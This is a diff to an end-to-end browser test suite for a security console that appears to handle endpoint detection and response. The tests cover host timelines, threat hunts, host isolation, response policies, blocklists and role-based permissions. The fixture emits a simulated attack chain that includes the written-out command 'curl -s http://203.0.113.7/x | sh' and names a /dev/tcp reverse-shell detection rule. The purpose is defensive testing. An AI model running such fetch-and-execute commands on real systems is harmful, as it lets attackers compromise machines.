@@ -12,6 +12,7 @@ let server: ServerHandle;
 let api: ApiClient;
 let browser: Browser;
 let agent: InjectedAgent;
+let host: string;
 let admin: ConsoleTab;
 const marker = `vigil-console-${uniqueId()}`;
 const REVERSE_SHELL = 'Shell Reverse Connection Through /dev/tcp or /dev/udp';
@@ -22,7 +23,8 @@ before(async () => {
   browser = await launchBrowser();
   server = await startConsoleServer();
   api = await new ApiClient(server).login();
-  agent = await startInjectedAgent(server, api, 'web-01');
+  agent = await startInjectedAgent(server, api);
+  host = agent.hostname;
   agent.stats.lost = 3;
   agent.stats.filtered = 7;
   // A known attack chain: sshd → bash reverse shell (connects out, resolves a name, writes a file) → curl piped to sh.
@@ -35,6 +37,9 @@ before(async () => {
     processStart(entity.curl, entity.bash, 902, '/usr/bin/curl', `curl -s http://203.0.113.7/x | sh # ${marker}`),
     ...Array.from({ length: 30 }, (_, i) => processStart(`ls-${marker}-${i}`, entity.sshd, 1000 + i, '/usr/bin/ls', `ls -la /srv/${i} ${marker}`)),
   ]);
+  // Older file events: the host timeline pages through them (200 per page).
+  const old = Date.now() - 3_600_000;
+  await agent.emit(Array.from({ length: 220 }, (_, i) => ({ ...activity(`cron-${marker}`, 77, 'file', 'modify', { 'file.path': `/var/log/app-${i}.log` }), '@timestamp': new Date(old + i * 1000).toISOString() })));
   await waitFor('both alerts', async () => {
     const alerts = (await api.get(`/api/v1/alerts?host_id=${agent.agentId}`)).body as { ruleTitle: string }[];
     return [REVERSE_SHELL, DOWNLOAD_TO_SHELL].every((t) => alerts.some((a) => a.ruleTitle === t)) || undefined;
@@ -139,11 +144,11 @@ test('the overview charts alerts by severity over time, top rules and hosts, hos
   const topRules = await page.locator('[data-chart="top-rules"] a').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
   assert.ok(topRules.some((label) => label?.startsWith(REVERSE_SHELL)), JSON.stringify(topRules));
   const topHosts = await page.locator('[data-chart="top-hosts"] a').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
-  assert.ok(topHosts.some((label) => label?.startsWith('web-01:')), JSON.stringify(topHosts));
+  assert.ok(topHosts.some((label) => label?.startsWith(`${host}:`)), JSON.stringify(topHosts));
   await waitFor('host states', async () => ((await page.locator('[data-chart="host-states"] [data-segment="online"]').getAttribute('data-value')) === '1' ? true : undefined));
   const events = Number(await page.locator('[data-chart="events-over-time"] path[data-series="events"]').getAttribute('data-total'));
   assert.ok(events >= 36, `events charted: ${events}`);
-  const row = page.getByTestId('agent-health').locator('tr', { hasText: 'web-01' });
+  const row = page.getByTestId('agent-health').locator('tr', { hasText: host });
   await waitFor('lost and filtered events from the heartbeat', async () => ((await row.getByTestId('health-lost').textContent()) === '3' ? true : undefined), 10_000);
   assert.equal(await row.getByTestId('health-filtered').textContent(), '7');
   assert.equal(await page.getByTestId('stat-lost').locator('.stat-value').textContent(), '3');
@@ -155,18 +160,27 @@ test('the hosts page lists the enrolled agent; its host page shows the timeline 
   await visit(page, '/hosts', 'Hosts');
   const row = page.locator(`[data-host-id="${agent.agentId}"]`);
   await row.waitFor();
-  assert.match((await row.textContent()) ?? '', /web-01.*online/s);
+  assert.match((await row.textContent()) ?? '', new RegExp(`${host}.*online`, 's'));
   await page.getByPlaceholder(/Search by name/).fill('no-such-host-anywhere');
   await row.waitFor({ state: 'detached' });
-  await page.getByPlaceholder(/Search by name/).fill('web');
+  await page.getByPlaceholder(/Search by name/).fill(host.slice(0, 2));
   await row.waitFor();
   await shot(page, 'hosts');
-  await row.getByRole('link', { name: 'web-01' }).click();
-  await page.locator('#page-title', { hasText: 'web-01' }).waitFor();
+  await row.getByRole('link', { name: host }).click();
+  await page.locator('#page-title', { hasText: host }).waitFor();
   const timeline = page.getByRole('grid', { name: 'Host timeline' });
-  await timeline.getByText(`curl -s http://203.0.113.7/x | sh # ${marker}`).waitFor();
+  // Newest first: the last ls on top; 200 events per page, the rest after "Load older events".
+  await timeline.getByRole('row').nth(1).getByText(`ls -la /srv/29 ${marker}`).waitFor();
+  assert.equal(await timeline.getAttribute('data-total-rows'), '200');
+  assert.ok((await timeline.getByRole('row').count()) < 60, 'the timeline renders only the rows in view');
+  await page.getByRole('button', { name: 'Load older events' }).click();
+  await waitFor('the second page', async () => ((await timeline.getAttribute('data-total-rows')) === '256' ? true : undefined));
+  await page.getByRole('button', { name: 'Load older events' }).waitFor({ state: 'detached' });
+  await timeline.focus();
+  await page.keyboard.press('End');
+  await timeline.getByText('/var/log/app-0.log').waitFor();
   await page.getByRole('tab', { name: 'Processes' }).click();
-  await page.getByRole('grid', { name: 'Processes' }).getByText(`ls -la /srv/3 ${marker}`).waitFor();
+  await page.getByRole('grid', { name: 'Processes' }).getByText(`ls -la /srv/25 ${marker}`).first().waitFor();
   await shot(page, 'host');
 });
 
@@ -207,7 +221,7 @@ test('a valid hunt renders its rows; stats and timechart render charts', async (
   await results.waitFor();
   assert.equal(await results.getAttribute('data-rows'), '30');
   const grid = page.getByRole('grid', { name: 'Hunt results' });
-  await grid.getByText(`ls -la /srv/7 ${marker}`).waitFor();
+  await grid.getByText(`ls -la /srv/7 ${marker}`).first().waitFor();
   await grid.getByRole('row').nth(3).click();
   await page.getByTestId('event-details').waitFor();
   assert.match((await page.getByTestId('event-details').textContent()) ?? '', /process\.command_line/);
@@ -217,14 +231,14 @@ test('a valid hunt renders its rows; stats and timechart render charts', async (
   await editor.press('Control+Enter');
   await page.locator('[data-testid="hunt-results"][data-kind="stats"]').waitFor();
   const bars = await page.locator('[data-chart="hunt-stats"] rect[data-bar]').evaluateAll((rects) => rects.map((r) => Number(r.getAttribute('data-value'))));
-  assert.deepEqual(bars, [30, 1, 1, 1]);
+  assert.deepEqual(bars, [30, 1, 1], 'ls, then bash and curl (sshd has no marker)');
   await shot(page, 'hunt-stats');
 
   await editor.fill(`process where process.command_line contains "${marker}" | timechart span=1m count() by process.name`);
   await editor.press('Control+Enter');
   await page.locator('[data-testid="hunt-results"][data-kind="timechart"]').waitFor();
   const series = await page.locator('[data-chart="hunt-timechart"] [data-series]').evaluateAll((els) => [...new Set(els.map((e) => e.getAttribute('data-series')))].sort());
-  assert.deepEqual(series, ['bash', 'curl', 'ls', 'sshd']);
+  assert.deepEqual(series, ['bash', 'curl', 'ls']);
   assert.deepEqual(admin.takeProblems(), []);
 });
 
@@ -286,7 +300,7 @@ test('alert triage changes status per alert, in bulk and on the alert page', asy
   await page.getByTestId('bulk-apply').click();
   await waitFor('the bulk change', async () => ((await alertsOfHost()).every((a) => a.status === 'in_progress') ? true : undefined));
   await page.getByRole('tab', { name: /Incidents/ }).click();
-  const incident = page.getByTestId('incident').filter({ hasText: 'web-01' });
+  const incident = page.getByTestId('incident').filter({ hasText: host });
   await incident.waitFor();
   assert.match((await incident.textContent()) ?? '', /2 alerts/);
   await shot(page, 'alerts');
@@ -308,6 +322,9 @@ const navigation: [string, string, string][] = [
   ['t', 'hunt', 'Hunt'],
   ['s', 'sweeps', 'IOC sweeps'],
   ['r', 'rules', 'Rules'],
+  ['x', 'response', 'Response'],
+  ['p', 'policies', 'Policies'],
+  ['b', 'blocklist', 'Blocklist'],
   ['i', 'integrations', 'Integrations'],
   ['u', 'users', 'Users and access'],
   ['l', 'audit', 'Audit log'],
@@ -351,6 +368,114 @@ test('keyboard only: Tab reaches every page link in order, Enter opens it, g-sho
   assert.deepEqual(admin.takeProblems(), []);
 });
 
+test('the host page isolates and releases the host with a reason and live progress; the state shows everywhere', async () => {
+  const { page } = admin;
+  await visit(page, `/hosts/${agent.agentId}`, host);
+  const isolation = page.getByTestId('isolation');
+  await isolation.getByText('not isolated').waitFor();
+  await page.getByRole('button', { name: 'Isolate host…' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Isolate host' });
+  await dialog.getByTestId('action-hosts').getByText(host).waitFor();
+  await dialog.getByLabel('Reason *').fill(`console test ${marker}`);
+  await dialog.getByRole('button', { name: 'Run on 1 host' }).click();
+  await dialog.locator('[data-testid="task-progress"] [data-state="succeeded"]').waitFor({ timeout: 20_000 });
+  assert.match((await dialog.getByTestId('task-progress').textContent()) ?? '', /isolated \(simulated by the test agent\)/);
+  assert.equal(agent.isolated, true, 'the agent ran the signed task');
+  await dialog.getByRole('button', { name: 'Close' }).click();
+  await isolation.getByText('isolated', { exact: true }).waitFor();
+  await shot(page, 'host-isolated');
+  await visit(page, '/hosts?state=isolated', 'Hosts');
+  await page.locator(`[data-host-id="${agent.agentId}"]`).getByText('isolated').waitFor();
+  await visit(page, '/', 'Overview');
+  await waitFor('the isolated count', async () => ((await page.getByTestId('stat-isolated').locator('.stat-value').textContent()) === '1' ? true : undefined));
+
+  await visit(page, `/hosts/${agent.agentId}`, host);
+  await page.getByRole('button', { name: 'Release isolation…' }).click();
+  const release = page.getByRole('dialog', { name: 'Release host isolation' });
+  await release.getByLabel('Reason *').fill('contained');
+  await release.getByRole('button', { name: 'Run on 1 host' }).click();
+  await release.locator('[data-testid="task-progress"] [data-state="succeeded"]').waitFor({ timeout: 20_000 });
+  await release.getByRole('button', { name: 'Close' }).click();
+  await isolation.getByText('not isolated').waitFor();
+  assert.equal(agent.isolated, false);
+
+  // A destructive action asks again with the server's confirmation before anything is created.
+  await page.getByRole('button', { name: 'Run action…' }).click();
+  const run = page.getByRole('dialog', { name: 'Run a response action' });
+  await run.getByLabel('Action').selectOption('file.delete');
+  await run.getByLabel('path *').fill('/tmp/not-there');
+  await run.getByLabel('Reason *').fill('test the confirmation');
+  await run.getByRole('button', { name: 'Continue…' }).click();
+  const confirm = page.getByRole('dialog', { name: 'Confirm Delete file' });
+  await confirm.getByRole('button', { name: /^Yes, delete file$/ }).waitFor();
+  await confirm.getByRole('button', { name: 'Back' }).click();
+  await run.getByRole('button', { name: 'Cancel' }).click();
+  const deletes = (await api.get(`/api/v1/response/tasks?host_id=${agent.agentId}&action=file.delete`)).body as unknown[];
+  assert.equal(deletes.length, 0, 'going back created no task');
+
+  await visit(page, '/response', 'Response');
+  const rows = await page.getByTestId('tasks-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => tr.textContent ?? ''));
+  assert.ok(rows.some((r) => /host\.isolate.*succeeded/.test(r)) && rows.some((r) => /host\.release.*succeeded/.test(r)), JSON.stringify(rows));
+  await page.getByTestId('tasks-table').locator('tbody tr').first().getByRole('button').click();
+  await page.getByTestId('task-details').getByText('contained').waitFor();
+  await shot(page, 'response');
+  await page.keyboard.press('Escape');
+  await visit(page, '/audit?tab=response', 'Audit log');
+  await page.getByRole('button', { name: 'Verify hash chain' }).click();
+  await page.getByText(/Chain intact/).waitFor();
+  assert.deepEqual(admin.takeProblems(), []);
+});
+
+test('an analyst may collect but not contain: no isolate button, only the actions of the role', async () => {
+  const created = await api.post('/api/v1/users', { username: 'analyst1', password: 'analyst-password-0123', role: 'analyst' });
+  assert.equal(created.status, 200, JSON.stringify(created.body));
+  const tab = await openTab(browser, server);
+  const { page } = tab;
+  await login(page, 'analyst1', 'analyst-password-0123');
+  await visit(page, `/hosts/${agent.agentId}`, host);
+  await page.getByTestId('isolation').waitFor();
+  assert.equal(await page.getByRole('button', { name: /Isolate host|Release isolation/ }).count(), 0);
+  await page.getByRole('button', { name: 'Run action…' }).click();
+  const options = await page.getByRole('dialog').getByLabel('Action').locator('option').evaluateAll((els) => els.map((e) => e.getAttribute('value')));
+  assert.ok(options.includes('agent.ping') && !options.includes('host.isolate') && !options.includes('file.delete'), JSON.stringify(options));
+  await page.keyboard.press('Escape');
+  await visit(page, '/policies', 'Policies');
+  assert.equal(await page.getByRole('button', { name: 'New policy…' }).count(), 0);
+  assert.deepEqual(tab.takeProblems(), []);
+  await tab.context.close();
+});
+
+test('a response policy and a blocklist entry are created and removed in the console', async () => {
+  const { page } = admin;
+  await visit(page, '/policies', 'Policies');
+  await page.getByRole('button', { name: 'New policy…' }).click();
+  const editor = page.getByRole('dialog', { name: 'New response policy' });
+  await editor.getByLabel('Name').fill(`ping-${marker}`);
+  await editor.getByLabel('Alerts at or above').selectOption('critical');
+  await editor.getByLabel('Action 1', { exact: true }).selectOption('agent.ping');
+  await editor.getByLabel('Arguments of action 1 (JSON)').fill('{"echo": "alert {{alert.id}}"}');
+  await editor.getByRole('button', { name: 'Save policy' }).click();
+  const row = page.getByTestId('policies-table').locator('tr', { hasText: `ping-${marker}` });
+  await row.waitFor();
+  assert.match((await row.textContent()) ?? '', /level ≥ critical.*agent\.ping.*dry run/s);
+  await row.getByRole('button', { name: 'Disable' }).click();
+  await row.getByText('disabled').waitFor();
+  await row.getByRole('button', { name: 'Delete' }).click();
+  await page.getByRole('dialog', { name: /Delete policy/ }).getByRole('button', { name: 'Delete policy' }).click();
+  await row.waitFor({ state: 'detached' });
+
+  await visit(page, '/blocklist', 'Blocklist');
+  await page.getByLabel('Block by').selectOption('path');
+  await page.getByLabel('Value').fill(`/tmp/${marker}/**`);
+  await page.getByRole('button', { name: 'Add to blocklist' }).click();
+  const entry = page.getByTestId('blocklist-table').locator('tr', { hasText: `/tmp/${marker}/**` });
+  await entry.waitFor();
+  await entry.getByRole('button', { name: 'Remove' }).click();
+  await page.getByRole('dialog', { name: 'Remove from the blocklist' }).getByRole('button', { name: 'Remove' }).click();
+  await entry.waitFor({ state: 'detached' });
+  assert.deepEqual(admin.takeProblems(), []);
+});
+
 test('a viewer sees the data but no response, triage or edit actions, and no admin pages', async () => {
   const created = await api.post('/api/v1/users', { username: 'viewer1', password: 'viewer-password-0123', role: 'viewer' });
   assert.equal(created.status, 200, JSON.stringify(created.body));
@@ -365,7 +490,7 @@ test('a viewer sees the data but no response, triage or edit actions, and no adm
   await visit(page, '/hosts', 'Hosts');
   await page.locator(`[data-host-id="${agent.agentId}"]`).waitFor();
   await none('Add hosts button', page.getByRole('button', { name: /Add hosts/ }));
-  await visit(page, `/hosts/${agent.agentId}`, 'web-01');
+  await visit(page, `/hosts/${agent.agentId}`, host);
   await page.getByRole('grid', { name: 'Host timeline' }).getByRole('row').nth(2).waitFor();
   await none('revoke button', page.getByRole('button', { name: /Revoke/ }));
   await none('response actions', page.getByRole('button', { name: /Isolate|Release|Kill|Quarantine|Run action/i }));
@@ -424,10 +549,10 @@ test('every page loads without console errors, page errors or CSP violations', a
     ['/', 'Overview'],
     ['/hosts', 'Hosts'],
     ['/hosts?group=os', 'Hosts'],
-    [`/hosts/${agent.agentId}`, 'web-01'],
-    [`/hosts/${agent.agentId}?tab=processes`, 'web-01'],
-    [`/hosts/${agent.agentId}?tab=connections`, 'web-01'],
-    [`/hosts/${agent.agentId}?tab=alerts`, 'web-01'],
+    [`/hosts/${agent.agentId}`, host],
+    [`/hosts/${agent.agentId}?tab=processes`, host],
+    [`/hosts/${agent.agentId}?tab=connections`, host],
+    [`/hosts/${agent.agentId}?tab=alerts`, host],
     [`/hosts/${agent.agentId}/processes/${entity.bash}`, 'Process tree'],
     ['/alerts', 'Alerts'],
     ['/alerts?view=incidents&status=all', 'Alerts'],
@@ -441,9 +566,16 @@ test('every page loads without console errors, page errors or CSP violations', a
     ['/rules?tab=problems', 'Rules'],
     ['/rules/0c071acc-8823-4eb5-ba7c-4303224176ef', REVERSE_SHELL],
     ['/rules/new', 'New rule'],
+    ['/response', 'Response'],
+    ['/response?tab=approvals', 'Response'],
+    ['/response?tab=evidence', 'Response'],
+    ['/response?tab=key', 'Response'],
+    ['/policies', 'Policies'],
+    ['/blocklist', 'Blocklist'],
     ['/integrations', 'Integrations'],
     ['/users', 'Users and access'],
     ['/audit', 'Audit log'],
+    ['/audit?tab=response', 'Audit log'],
     ['/no/such/page', 'Not found'],
   ];
   admin.takeProblems();
@@ -457,7 +589,7 @@ test('every page loads without console errors, page errors or CSP violations', a
   await visit(page, `/sweeps/${sweep.body.id}`, 'IOC sweeps');
   await page.getByTestId('sweep-results').getByText('10.0.0.5').waitFor();
   await shot(page, 'sweeps');
-  for (const [path, name] of [['/rules', 'rules'], ['/integrations', 'integrations'], ['/users', 'users'], ['/audit', 'audit']] as const) {
+  for (const [path, name] of [['/rules', 'rules'], ['/response', 'response'], ['/policies', 'policies'], ['/integrations', 'integrations'], ['/users', 'users'], ['/audit', 'audit']] as const) {
     await visit(page, path);
     await page.waitForLoadState('networkidle');
     await shot(page, name);
